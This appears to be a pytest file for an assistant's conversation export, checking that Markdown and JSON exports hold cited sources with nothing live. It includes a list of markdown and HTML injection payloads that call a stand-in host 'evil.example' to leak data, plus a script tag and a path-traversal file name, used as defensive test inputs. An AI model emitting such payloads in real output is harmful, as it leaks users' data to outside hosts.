"""A conversation taken along holds its sources, and nothing in it is live."""

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from assistant.models import Answer, Citation, Disagreement, Event, Side
from assistant.serving import page_script
from assistant.serving.answer_view import answer_html
from assistant.serving.exchange import Exchange, Failure
from assistant.serving.exporting import as_json, as_markdown, file_name
from vectorstore.records import Filters

SECRET = "http://evil.example/?d=secret"
ATTACKS = [
    f"![x]({SECRET})",
    f"![x][r]\n\n[r]: {SECRET}",
    f"[click]({SECRET})",
    f"[1]: {SECRET}",
    f"[1][1]: {SECRET}",
    f"<{SECRET}>",
    SECRET,
    "www.evil.example",
    f"<img src={SECRET}>",
    "<script>alert(1)</script>",
    f"\\![x]({SECRET})",
    f"\\\\![x]({SECRET})",
    f"```\n![x]({SECRET})\n```\n![x]({SECRET})",
    "<!-- -->",
]
DRAWN = MarkdownIt("commonmark")


@pytest.fixture
def exchange(answer_to: Callable[..., Answer], cited: Citation) -> Exchange:
    answer = answer_to(
        "Who opposes?",
        standalone_question="Which countries oppose it?",
        missing=("Serbia",),
        disagreements=(
            Disagreement(
                about="Bulgaria",
                kind="disputed",
                sides=(
                    Side(text="It will not.", citations=(1,)),
                    Side(text="It will.", citations=(1,)),
                ),
            ),
        ),
    )
    return Exchange(
        question="Who opposes?",
        text=answer.text,
        citations=(cited,),
        answer=answer,
        filters=Filters(outlets=frozenset({"The Northern Ledger"})),
    )


def test_the_markdown_has_questions_answers_and_footnotes(exchange: Exchange) -> None:
    text = as_markdown("The strait", [exchange, exchange])
    assert text.startswith("# The strait\n\n## Who opposes?\n")
    assert "**Bulgaria** will not send monitors[^1-1]." in text
    assert "**Bulgaria** will not send monitors[^2-1]." in text
    assert (
        "[^2-1]: “Bulgaria will not send monitors, its defence minister said.” "
        "The Northern Ledger · 1 Feb 2026 · Sofia says no to the strait "
        "<https://ledger.example/sofia#:~:text=Bulgaria%20will%20not" in text
    )
    assert "Only articles: The Northern Ledger" in text
    assert "Sources disagree: Bulgaria\n\n- It will not.[^1-1]\n- It will." in text
    assert "The articles do not say:\n\n- Serbia" in text
    assert "Read 4 of 5 matching articles" in text


def test_what_failed_or_was_stopped_says_so(exchange: Exchange) -> None:
    failed = Exchange(question="A?", failure=Failure(message="No.", hint="Wait."))
    stopped = replace(exchange, stopped=True)
    text = as_markdown("x", [failed, stopped])
    assert "No. Wait." in text
    assert "This answer was stopped." in text


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_the_markdown_is_live(attack: str, exchange: Exchange) -> None:
    citation = replace(
        exchange.citations[0], quote=attack, title=attack, outlet=attack, url=attack
    )
    hostile = replace(
        exchange, question=attack, text=attack, citations=(citation,), answer=None
    )
    for text in (as_markdown(attack, [hostile]), as_markdown("x", [hostile] * 2)):
        html = DRAWN.render(text)
        tags = {part.split()[0].strip("/>") for part in html.split("<")[1:]}
        allowed = {"h1", "h2", "p", "br", "a", "code", "pre", "em", "strong"}
        assert {tag.partition(">")[0] for tag in tags} <= allowed
        links = [part.split('"')[1] for part in html.split("<a ")[1:]]
        # The article's own address alone, and only where it is one.
        assert set(links) <= {
            f"{SECRET}#:~:text=http%3A%2F%2Fevil.example%2F%3Fd%3Dsecret"
        }
        if attack != SECRET:
            assert links == []


def test_the_json_holds_the_answers_of_the_contract(exchange: Exchange) -> None:
    form = json.loads(as_json("The strait", [exchange]))
    assert form["title"] == "The strait"
    assert exchange.answer is not None
    assert form["exchanges"][0]["answer"] == exchange.answer.to_dict()


def test_a_file_name_holds_no_path() -> None:
    assert file_name("../a/b: “c”?", "md") == "a-b-c.md"
    assert file_name("…", "json") == "conversation.json"


def test_an_open_conversation_offers_its_files(scripted_desk: Any) -> None:
    page = AppTest.from_file(str(page_script()), default_timeout=30).run()
    page.chat_input[0].set_value("Who opposes?").run()
    page.run()
    assert not page.exception
    labels = [each.label for each in page.download_button]
    assert labels == ["Markdown", "JSON"]


def test_the_cited_sentences_stand_below_an_answer_for_paper(
    exchange: Exchange, events_for: Callable[[Answer], Iterator[Event]]
) -> None:
    html = answer_html(exchange, 0)
    assert '<div class="na-sources"><p>[1] <bdi>“Bulgaria will not send' in html
    assert "https://ledger.example/sofia" in html
    assert 'href="https' not in html
